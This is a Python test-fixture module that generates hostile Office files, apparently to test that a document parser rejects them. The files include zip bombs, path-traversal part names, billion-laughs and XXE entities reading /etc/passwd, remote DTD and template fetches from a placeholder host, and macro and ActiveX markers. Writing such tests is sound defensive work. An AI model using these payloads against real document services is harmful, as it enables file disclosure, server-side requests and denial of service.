"""Word and PowerPoint files: bombs, macros, entities, parts that lead elsewhere."""

import random

from hostile_file import LAUGHS, LINES, READ, Hostile, late, page_html
from office_maker import (
    TYPES,
    deck,
    document_xml,
    docx,
    linked_picture,
    paragraph,
    patched,
    with_parts,
    word_rels,
)
from pdf_maker import pdf


def bomb_docx(megabytes):
    blanks = b" " * (megabytes << 20)
    return docx(parts=[("word/media/blank.xml", blanks)])


def lying_docx():
    return patched(docx(parts=[("word/lies.xml", b"x" * 5_000_000)]), "word/lies.xml", size=10)


def deep_docx(depth):
    opening, closing = "<w:tbl><w:tr><w:tc>", "</w:tc></w:tr></w:tbl>"
    return docx(opening * depth + paragraph("x") + closing * depth)


def deep_groups():
    def nest(made):
        from lxml import etree

        tree = made.slides[0].shapes._spTree
        group = made.slides[0].shapes.add_group_shape()._element
        xml = etree.tostring(group).decode()
        head, tail = xml[: xml.index("</p:grpSp>")], "</p:grpSp>"
        tree.append(etree.fromstring(head * 60 + tail * 60))

    return deck(nest)


def wide_slides():
    def grow(made):
        frame = made.slides[0].placeholders[1].text_frame
        frame.text = "word " * 1_100_000

    return deck(grow)


LAUGHING = f'<?xml version="1.0"?>{LAUGHS}' + document_xml(paragraph("&j;")).split("?>", 1)[1]
OUTSIDE = (
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
    + document_xml(paragraph("&e;")).split("?>", 1)[1]
)
MACRO_TYPES = TYPES.replace(
    "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
    "application/vnd.ms-word.document.macroEnabled.main+xml",
)

OFFICE = [
    Hostile("bomb-declared.docx", late(bomb_docx, 210), "zip bomb"),
    Hostile("bomb-ratio.docx", late(bomb_docx, 60), "zip bomb"),
    Hostile(
        "bomb.pptx",
        lambda _: with_parts(deck(), [("ppt/media/a.xml", b"\0" * (210 << 20))]),
        "zip bomb",
    ),
    Hostile("lies-about-size.docx", late(lying_docx), "broken"),
    Hostile(
        "many-parts.docx",
        late(docx, parts=[(f"word/p{n}.xml", "") for n in range(5_001)]),
        "more than 5,000 parts",
    ),
    Hostile(
        "twins.docx",
        late(docx, parts=[("word/document.xml", document_xml(paragraph("other")))]),
        "two parts",
    ),
    Hostile("climbs.docx", late(docx, parts=[("../../evil.xml", "x")]), "leads out"),
    Hostile("climbs-windows.docx", late(docx, parts=[("..\\evil.xml", "x")]), "leads out"),
    Hostile("absolute.docx", late(docx, parts=[("/etc/evil.xml", "x")]), "leads out"),
    Hostile(
        "locked-part.docx", lambda _: patched(docx(), "word/document.xml", flag=1), "encrypted"
    ),
    Hostile(
        "odd-compression.docx", lambda _: patched(docx(), "word/document.xml", method=99), "broken"
    ),
    Hostile(
        "encrypted.docx",
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"EncryptedPackage" * 100,
        "encrypted",
    ),
    Hostile("cut.docx", lambda _: docx()[:-300], "broken"),
    Hostile("noise.docx", lambda _: b"PK\x03\x04" + random.Random(1).randbytes(5_000), "broken"),
    Hostile("slides.docx", lambda _: deck(), "another Office file"),
    Hostile("words.pptx", lambda _: docx(), "another Office file"),
    Hostile(
        "archive.docx",
        lambda _: with_parts(docx(), [("a.txt", "x")], drop=("[Content_Types].xml",)),
        "another archive",
    ),
    Hostile("pdf.docx", late(pdf, [LINES]), "it is a PDF"),
    Hostile("page.docx", page_html(""), "not a Word file"),
    Hostile(
        "macro.docm",
        lambda _: docx(types=MACRO_TYPES, parts=[("word/vbaProject.bin", "x")]),
        "macros",
    ),
    Hostile("macro-renamed.docx", lambda _: docx(types=MACRO_TYPES), "macros"),
    Hostile("macro-hidden.docx", lambda _: docx(parts=[("word/VBAProject.BIN", "x")]), "macros"),
    Hostile("macro.pptm", lambda _: deck(), "macros"),
    Hostile(
        "controls.pptx",
        lambda _: with_parts(deck(), [("ppt/activeX/activeX1.xml", "<x/>")]),
        "ActiveX",
    ),
    Hostile(
        "object.pptx",
        lambda _: with_parts(deck(), [("ppt/embeddings/oleObject1.bin", "MZ")]),
        "embedded object",
    ),
    Hostile("laughs.docx", lambda _: docx(document=LAUGHING), "entities"),
    Hostile(
        "laughs-utf16.docx",
        lambda _: docx(document=LAUGHING.replace("?>", ' encoding="UTF-16"?>', 1).encode("utf-16")),
        "entities",
    ),
    Hostile("outside-entity.docx", lambda _: docx(document=OUTSIDE), "entities"),
    Hostile(
        "outside-entity.pptx",
        lambda _: with_parts(
            deck(), [("docProps/core.xml", '<!DOCTYPE x SYSTEM "http://{host}/x.dtd"><x/>')]
        ),
        "entities",
    ),
    Hostile(
        "laughing-styles.docx",
        lambda _: docx(parts=[("word/styles.xml", f"{LAUGHS}<x>&j;</x>")]),
        "entities",
    ),
    Hostile("deep.docx", late(deep_docx, 5_000), "nested too deeply"),
    Hostile("deep.pptx", late(deep_groups), "nested too deeply"),
    Hostile("broken-xml.docx", lambda _: docx(document="<w:document><w:body>"), "broken"),
    Hostile(
        "headless.docx", lambda _: with_parts(docx(), [], drop=("word/document.xml",)), "broken"
    ),
    Hostile(
        "headless.pptx", lambda _: with_parts(deck(), [], drop=("ppt/presentation.xml",)), "broken"
    ),
    Hostile(
        "endless-words.docx", lambda _: docx(paragraph("word " * 1_100_000)), "million characters"
    ),
    Hostile("endless-words.pptx", late(wide_slides), "million characters"),
    Hostile("empty.docx", lambda _: docx("<w:p/>"), "no text"),
    Hostile(
        "linked-pictures.docx",
        lambda _: docx(
            paragraph("Good words.") + linked_picture("p1") + linked_picture("p2"),
            parts=[
                (
                    "word/_rels/document.xml.rels",
                    word_rels(
                        ("p1", "image", "file:///etc/passwd"),
                        ("p2", "image", "http://{host}/docx.png"),
                    ),
                )
            ],
        ),
        READ,
        ("root:", "{host}"),
    ),
    Hostile(
        "far-template.docx",
        lambda _: docx(
            parts=[
                (
                    "word/_rels/settings.xml.rels",
                    word_rels(("t", "attachedTemplate", "http://{host}/t.dotm")),
                )
            ]
        ),
        READ,
    ),
    Hostile(
        "style-map.docx",
        lambda _: docx(parts=[("mammoth/style-map", "p => script:fresh")]),
        READ,
        ("script",),
    ),
]
